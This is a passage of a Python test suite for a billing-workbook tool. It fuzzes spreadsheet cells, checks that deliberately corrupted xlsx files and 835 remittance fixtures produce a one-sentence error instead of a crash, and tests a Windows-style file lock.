    sheets = fuzz_sheets(lines, payers, claims)
    book = MemoryBook(sheets)
    before = copy.deepcopy(book.sheets)
    core.check(book)
    plan, _ = core.recode(book, after=[refresh])
    assert user_columns(book.sheets["Sessions"]) == user_columns(before["Sessions"])
    assert book.sheets["Claims"] == before["Claims"]
    width = len(PAYER_HEADER)  # Learned may be added after the payers' own columns
    assert [r[:width] for r in book.sheets["Payers"]] == [r[:width] for r in before["Payers"]]
    for result in plan.results:
        assert len(result.flags_text.encode("utf-16-le")) // 2 <= CELL_LIMIT
    second, _ = core.recode(book, after=[refresh])
    assert second.changed == 0  # recoding twice changes nothing


def _file_value(value: Any) -> Any:
    """What a workbook file can hold: no cell text over the limit, no control characters."""
    if isinstance(value, str):
        return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", value)[:CELL_LIMIT]
    if isinstance(value, int) and not isinstance(value, bool) and abs(value) > 2**53:
        return float(value)
    if isinstance(value, float) and abs(value) > 1e307:  # openpyxl's writer rounds these to inf
        return math.copysign(1e300, value)
    return value


@settings(
    max_examples=12,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(st.lists(LINE, min_size=1, max_size=4), st.lists(PAYER, max_size=1), st.lists(CLAIM, max_size=3))
def test_random_cells_through_the_file_door_never_crash_or_lose_a_row(
    tmp_path_factory: pytest.TempPathFactory, lines: list[Any], payers: list[Any], claims: list[Any]
) -> None:
    folder = tmp_path_factory.mktemp("fuzz")
    path = folder / "billing.xlsx"
    sheets = fuzz_sheets(lines, payers, claims)
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for name, rows in sheets.items():
        ws = wb.create_sheet(name)
        for r, values in enumerate(rows, start=1):
            for column, value in enumerate(values, start=1):
                as_text(ws.cell(row=r, column=column), _file_value(value))
    wb.save(path)
    before = openpyxl.load_workbook(path)
    kept = [[c.value for c in row][:7] for row in before["Sessions"].iter_rows(min_row=2)]
    for command in ("check", "recode"):
        status = run_quiet(command, str(path))
        assert status in (0, 2)  # 2: one sentence (e.g. no session lines), never a traceback
    after = openpyxl.load_workbook(path)
    assert [[c.value for c in row][:7] for row in after["Sessions"].iter_rows(min_row=2)][: len(kept)] == kept
    assert formulas(path) == []
    assert temp_files(folder) == []


# ---------------------------------------------------------------- crash inputs: one sentence or a result


def _parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {n: archive.read(n) for n in archive.namelist()}


def _rezip(path: Path, parts: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def _sheet_edit(change: Callable[[bytes], bytes]) -> Callable[[Path], None]:
    def edit(path: Path) -> None:
        parts = _parts(path)
        parts["xl/worksheets/sheet1.xml"] = change(parts["xl/worksheets/sheet1.xml"])
        _rezip(path, parts)

    return edit


def _bad_checksum(path: Path) -> None:
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[start + info.compress_size // 2] ^= 0xFF  # one flipped byte inside the compressed cells
    path.write_bytes(bytes(data))


def _unsupported_compression(path: Path) -> None:
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    data[info.header_offset + 8 : info.header_offset + 10] = (6).to_bytes(2, "little")  # "imploded"
    for at in [m.start() for m in re.finditer(rb"PK\x01\x02", bytes(data))]:  # its central directory entry
        name_length = int.from_bytes(data[at + 28 : at + 30], "little")
        if data[at + 46 : at + 46 + name_length] == info.filename.encode():
            data[at + 10 : at + 12] = (6).to_bytes(2, "little")
    path.write_bytes(bytes(data))


def _missing_payers(path: Path) -> None:
    parts = _parts(path)
    del parts["xl/worksheets/sheet2.xml"]
    _rezip(path, parts)


HOSTILE_WORKBOOKS: dict[str, Callable[[Path], None]] = {
    "bad zip checksum": _bad_checksum,
    "unsupported compression": _unsupported_compression,
    "malformed sheet XML": _sheet_edit(lambda xml: xml[: len(xml) // 2]),
    "XML comment after sheetData": _sheet_edit(
        lambda xml: xml.replace(b"</sheetData>", b"</sheetData><!-- a comment -->")
    ),
    "stray value at XFD1048576": _sheet_edit(
        lambda xml: re.sub(
            rb"</sheetData>",
            b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>',
            xml,
        )
    ),
    "whitespace before sheetData": _sheet_edit(
        lambda xml: xml.replace(b"<sheetData", b" " * 2_000_000 + b"<sheetData")
    ),
    "Payers listed but missing": _missing_payers,
    "not a zip at all": lambda path: path.write_bytes(b"PK\x03\x04 but nothing else"),
}


@pytest.mark.parametrize("kind", list(HOSTILE_WORKBOOKS))
@pytest.mark.parametrize("command", ["check", "recode", "report"])
def test_hostile_workbooks_give_one_sentence_or_a_result_never_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], kind: str, command: str
) -> None:
    path = workbook(tmp_path / "billing.xlsx")
    HOSTILE_WORKBOOKS[kind](path)
    original = path.read_bytes()
    status, out, err = run(capsys, command, str(path))  # any other exception fails the test
    assert status in (0, 2), (status, err)
    if status == 2:
        assert out == "" and err.count("\n") == 1 and err.startswith("cptbill: "), err
        assert path.read_bytes() == original
    assert temp_files(tmp_path) == []


CRASH_835S = sorted(p.name for p in (ROOT / "tests" / "fixtures").glob("*.835"))


@pytest.mark.parametrize("fixture", CRASH_835S)
def test_remittances_give_one_sentence_or_an_import_never_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fixture: str
) -> None:
    path = workbook(tmp_path / "billing.xlsx")
    original = path.read_bytes()
    status, out, err = run(capsys, "import-era", str(path), str(ROOT / "tests" / "fixtures" / fixture))
    assert status in (0, 2), (status, err)
    if status == 2:
        assert out == "" and err.count("\n") == 1 and err.startswith("cptbill: "), err
        assert path.read_bytes() == original
    else:
        assert run(capsys, "recode", str(path))[0] == 0  # what was imported is readable
    assert temp_files(tmp_path) == []


@pytest.mark.skipif(not POSIX, reason="stands in for msvcrt with fcntl")
def test_the_windows_lock_works_the_same(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The msvcrt branch of safefile, loaded with a stand-in msvcrt (fcntl underneath) as on Windows."""
    import fcntl
    import importlib.util
    import types

    def locking(fd: int, mode: int, nbytes: int) -> None:
        if mode == 1:  # LK_NBLCK: raises like msvcrt when another handle holds the bytes
            try:
                fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
            except BlockingIOError:
                raise PermissionError(errno.EACCES, "Permission denied") from None
        else:
            fcntl.flock(fd, fcntl.LOCK_UN)

    msvcrt = types.SimpleNamespace(LK_NBLCK=1, LK_UNLCK=0, locking=locking)
    monkeypatch.setitem(sys.modules, "msvcrt", msvcrt)
    monkeypatch.setattr(sys, "platform", "win32")
    spec = importlib.util.spec_from_file_location("safefile_on_windows", safefile.__file__)
    assert spec is not None and spec.loader is not None
    windows = importlib.util.module_from_spec(spec)
    monkeypatch.setitem(sys.modules, spec.name, windows)  # its dataclasses look their module up
    spec.loader.exec_module(windows)
    monkeypatch.undo()  # the module keeps its Windows functions; everything else is as before
    windows.LOCK_WAIT = 0.3
    path = workbook(tmp_path / "billing.xlsx")
    with windows.updating(path) as update:
        with (
            pytest.raises(CptbillError, match=r"Another cptbill is working on billing\.xlsx"),
            windows.updating(path),
        ):
            pass
        update.save(lambda stream: stream.write(path.read_bytes()))
    assert not windows.lock_path(path.resolve()).exists()  # removed once no one has it open
    with windows.updating(path):  # free again
        pass
